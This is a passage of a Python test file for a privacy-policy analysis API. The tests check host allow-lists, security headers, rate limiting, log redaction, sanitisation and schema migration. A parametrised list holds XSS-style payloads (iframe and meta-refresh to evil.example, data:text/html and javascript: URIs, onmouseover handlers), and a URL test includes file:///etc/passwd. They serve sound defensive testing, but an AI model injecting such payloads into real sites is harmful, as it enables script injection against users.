    def encode(self, texts, *, batch_size=None, normalize=True):
        if len(texts) > 1:
            self.clause_texts += len(texts)
            self.gate.wait(10)
        return super().encode(texts, normalize=normalize)


def test_concurrent_identical_uploads_are_prepared_once(tmp_path):
    encoder = GatedEncoder()
    with make_client(make_settings(tmp_path), encoder=encoder) as c:
        encoder.clause_texts = 0  # the seed at start does not count
        with ThreadPoolExecutor(max_workers=8) as pool:
            futures = [pool.submit(upload, c) for _ in range(8)]
            threading.Timer(0.5, encoder.gate.set).start()
            results = [f.result(timeout=30) for f in futures]
        assert sorted(r.status_code for r in results) == [200] * 7 + [201]
        assert len({r.json()["id"] for r in results}) == 1
        n_clauses = results[0].json()["clause_count"]
        assert encoder.clause_texts == n_clauses  # embedded once, not eight times


def test_hosts_outside_the_allowed_list_are_refused(tmp_path):
    with make_client(make_settings(tmp_path, allowed_hosts=["api.example.org"])) as c:
        assert_error(c.get("/v1/policies"), 400, "invalid_host")  # Host: testserver
        ok = c.get("/v1/policies", headers={"Host": "api.example.org:8000"})
        assert ok.status_code == 200


def test_responses_are_nosniff_and_never_cached(client):
    for r in (client.get("/v1/policies"), client.get("/v1/policies/nope"),
              client.post("/v1/ask", json={"question": "Do you sell data?"})):
        assert r.headers["x-content-type-options"] == "nosniff"
        assert r.headers["cache-control"] == "no-store"


def test_cors_is_off_by_default_and_on_for_configured_origins(client, tmp_path):
    origin = {"Origin": "https://chat.example.org"}
    assert "access-control-allow-origin" not in client.get("/v1/policies", headers=origin).headers
    settings = make_settings(tmp_path / "cors", cors_origins=["https://chat.example.org"])
    with make_client(settings) as c:
        r = c.get("/v1/policies", headers=origin)
        assert r.headers["access-control-allow-origin"] == "https://chat.example.org"


def test_the_database_files_are_private_to_the_owner(client, settings):
    upload(client)
    for suffix in ("", "-wal", "-shm"):
        path = Path(f"{settings.api.db}{suffix}")
        assert path.exists(), path
        assert path.stat().st_mode & 0o077 == 0, (path, oct(path.stat().st_mode))


def test_the_access_log_holds_no_query_strings():
    import logging

    from api.security import QuerylessAccessLog

    record = logging.LogRecord("uvicorn.access", logging.INFO, __file__, 1,
                               '%s - "%s %s HTTP/%s" %d',
                               ("127.0.0.1:5000", "GET", "/v1/policies?api_key=secret", "1.1", 200),
                               None)
    assert QuerylessAccessLog().filter(record)
    assert "secret" not in record.getMessage() and "/v1/policies" in record.getMessage()
    create_app(Settings())  # installs the filter on uvicorn's access logger
    assert any(isinstance(f, QuerylessAccessLog)
               for f in logging.getLogger("uvicorn.access").filters)


def test_repeated_wrong_keys_are_slowed_down_with_429(tmp_path):
    with make_client(make_settings(tmp_path, auth_failures=3, auth_window_seconds=600)) as c:
        for _ in range(3):
            assert_error(c.delete("/v1/policies/x", headers={"X-API-Key": "guess"}), 401,
                         "unauthorized")
        r = c.delete("/v1/policies/x", headers={"X-API-Key": "guess"})
        assert_error(r, 429, "too_many_requests")
        assert 1 <= int(r.headers["retry-after"]) <= 600
        # Blocked is blocked, right key or not, until the window has passed.
        assert upload(c).status_code == 429
        assert c.get("/v1/policies").status_code == 200  # open reads are not affected


def test_failed_keys_leave_the_window_as_time_passes():
    from api.security import AuthFailures

    now = [1000.0]
    failures = AuthFailures(2, 60, clock=lambda: now[0])
    failures.fail("a")
    failures.fail("a")
    assert failures.retry_after("a") == 60 and failures.retry_after("b") == 0
    now[0] += 30
    assert failures.retry_after("a") == 30
    now[0] += 31
    assert failures.retry_after("a") == 0


ACTIVE_PAYLOADS = [
    ("txt", "We value privacy. &lt;iframe src=https://evil.example/&gt; We never sell data."),
    ("md", 'We value privacy. <object data="data:text/html;base64,PHNjcmlwdD4=">x</object> Ok.'),
    ("txt", 'We value privacy. <meta http-equiv="refresh" content="0;url=https://evil.example">'),
    ("md", 'We value privacy. <a href="data:text/html;base64,PHNjcmlwdD4=">read more</a> Ok.'),
    ("html", '<p>We value privacy. <a href="&amp;#106;avascript:alert(1)">read more</a></p>'),
    ("txt", "We value privacy. &amp;lt;b onmouseover=alert(1)&amp;gt;hover&amp;lt;/b&amp;gt;"),
]


@pytest.mark.parametrize(("fmt", "body"), ACTIVE_PAYLOADS)
def test_clause_text_is_plain_text(client, settings, fmt, body):
    text = f"Acme Privacy Policy\n\nSharing\n\n{body}\n\nWe keep logs for 30 days.\n"
    r = upload(client, text, "Acme", format=fmt)
    if r.status_code != 201:
        assert_error(r, 422, "invalid_input")
    else:
        items = client.get(f"/v1/policies/{r.json()['id']}/clauses",
                           params={"version": "all"}).json()["items"]
        assert any("30 days" in c["text"] for c in items)
        for c in items:
            assert "<" not in c["text"] and "&lt;" not in c["text"] and "&amp;" not in c["text"]
    dump = "\n".join(sqlite3.connect(settings.api.db).iterdump()).lower()
    for needle in ("iframe", "javascript:", "data:text/html", "http-equiv", "onmouseover",
                   "<object", "<a href"):
        assert needle not in dump, needle


def test_only_http_source_urls_are_accepted(client):
    for url in ("javascript:alert(1)", "data:text/html,hi", "file:///etc/passwd", "https:nohost"):
        assert_error(upload(client, source_url=url), 422, "invalid_input")
    r = upload(client, source_url="https://acme.example/privacy")
    assert r.status_code == 201 and r.json()["source_url"] == "https://acme.example/privacy"


def test_plain_text_keeps_offsets_of_headings_in_step():
    from nlp.service.plaintext import plain_text

    text = "A &lt;b&gt;bold&lt;/b&gt; claim. Sharing: we <i>never</i> sell."
    plain, move = plain_text(text)
    assert plain == "A bold claim. Sharing: we never sell."
    start = text.index("Sharing")
    assert plain[move(start) : move(start + len("Sharing"))] == "Sharing"


def test_the_openapi_document_says_what_the_server_enforces(client, tmp_path):
    spec = client.get("/openapi.json").json()
    paths, schemas = spec["paths"], spec["components"]["schemas"]
    for path, method in (("/v1/policies", "post"), ("/v1/classify", "post"), ("/v1/ask", "post")):
        assert {"400", "413", "422"} <= set(paths[path][method]["responses"]), path
    limit = {p["name"]: p for p in paths["/v1/policies"]["get"]["parameters"]}["limit"]
    assert limit["schema"]["maximum"] == 200
    ask = schemas["AskRequest"]["properties"]
    assert ask["question"]["maxLength"] == 1000
    assert any(b.get("maximum") == 50 for b in ask["top_k"]["anyOf"])
    assert "security" not in paths["/v1/policies"]["get"]  # reads need no key by default
    assert paths["/v1/policies"]["post"]["security"] and "429" in paths["/v1/policies"]["post"][
        "responses"]
    r422 = paths["/v1/ask"]["post"]["responses"]["422"]["content"]["application/json"]
    assert r422["schema"] == {"$ref": "#/components/schemas/ErrorResponse"}
    with make_client(make_settings(tmp_path / "keyed", keyed_reads=True)) as c:
        keyed = c.get("/openapi.json").json()["paths"]
        assert keyed["/v1/policies"]["get"]["security"]


def test_a_405_names_every_method_of_the_path(client):
    r = client.put("/v1/policies")
    assert r.status_code == 405
    assert set(r.headers["allow"].replace(" ", "").split(",")) == {"GET", "POST"}
    # PUT stores a policy under a chosen id (issue 14), so PATCH is the unknown method here.
    r = client.patch("/v1/policies/quillnote")
    assert r.status_code == 405
    assert set(r.headers["allow"].replace(" ", "").split(",")) == {"GET", "PUT", "DELETE"}


def test_a_store_from_before_languages_gets_them_detected_once_at_start(settings):
    with make_client(settings) as c:
        pid = upload(c, GERMAN, name="Beispiel").json()["id"]
    conn = sqlite3.connect(settings.api.db)  # back to schema 3, as an older policylens left it
    for table, column in (("versions", "language"), ("versions", "languages"),
                          ("versions", "date_source"), ("clauses", "language"),
                          ("policies", "policy_score"), ("policies", "language_supported"),
                          ("policies", "warnings")):
        conn.execute(f"ALTER TABLE {table} DROP COLUMN {column}")
    conn.execute("DELETE FROM schema_version WHERE version > 3")
    conn.commit()
    conn.close()
    with make_client(settings) as c:
        body = c.get(f"/v1/policies/{pid}").json()
        clauses = c.get(f"/v1/policies/{pid}/clauses").json()["items"]
    assert (body["language"], body["language_supported"]) == ("de", False)
    assert any("German" in w for w in body["warnings"])
    assert clauses and {cl["language"] for cl in clauses} == {"de"}
